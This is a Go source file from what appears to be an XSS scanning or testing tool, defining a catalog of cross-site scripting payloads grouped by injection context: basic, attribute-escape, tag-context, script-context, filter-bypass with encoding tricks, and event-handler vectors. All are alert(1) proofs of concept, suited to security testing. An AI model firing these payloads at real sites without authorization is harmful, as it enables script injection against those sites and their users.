package payloads

// Category groups payloads by the injection position they target.
type Category string

const (
	CategoryBasic           Category = "basic"
	CategoryAttributeEscape Category = "attribute-escape"
	CategoryTagContext      Category = "tag-context"
	CategoryScriptContext   Category = "script-context"
	CategoryFilterBypass    Category = "filter-bypass"
	CategoryEventHandler    Category = "event-handler"
	CategoryPolyglot        Category = "polyglot"
	CategoryCustom          Category = "custom"
)

// Payload is a single attack string. Payloads are plain values; the catalog
// never hands out references into its own tables.
type Payload struct {
	Content  string   `json:"content"`
	Category Category `json:"category"`
}

var basicVectors = []string{
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<body onload=alert(1)>",
	`<iframe src="javascript:alert(1)">`,
}

var attributeEscapeVectors = []string{
	`"><script>alert(1)</script>`,
	`' onmouseover=alert(1) x='`,
	`" onmouseover="alert(1)`,
	`'><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><<SCRIPT>alert(1)//<<SCRIPT>`,
}

var tagContextVectors = []string{
	"<img src=x onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<iframe src=javascript:alert(1)>",
	"<body onload=alert(1)>",
	"<input onfocus=alert(1) autofocus>",
	"<select onfocus=alert(1) autofocus>",
	"<textarea onfocus=alert(1) autofocus>",
	"<details open ontoggle=alert(1)>",
}

var scriptContextVectors = []string{
	`'-alert(1)-'`,
	`";alert(1);//`,
	"</script><script>alert(1)</script>",
	`"}alert(1)//{"`,
}

var filterBypassVectors = []string{
	"<ScRiPt>alert(1)</sCrIpT>",
	`<img src="x" onerror="alert(1)">`,
	"<img src=x onerror=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<img src=x onerror=&#97;lert(1)>",
	`<img src=x onerror=\u0061lert(1)>`,
	"<<script>alert(1)//<<script>",
	"<script>alert(String.fromCharCode(49))</script>",
	`<iframe src="data:text/html,<script>alert(1)</script>">`,
}

var eventHandlerVectors = []string{
	"<img src=x onerror=alert(1)>",
	"<body onload=alert(1)>",
	"<input onfocus=alert(1) autofocus>",
	"<select onfocus=alert(1) autofocus>",
	"<textarea onfocus=alert(1) autofocus>",
	"<details open ontoggle=alert(1)>",
	"<marquee onstart=alert(1)>",
	"<div onmouseover=alert(1)>test</div>",
}
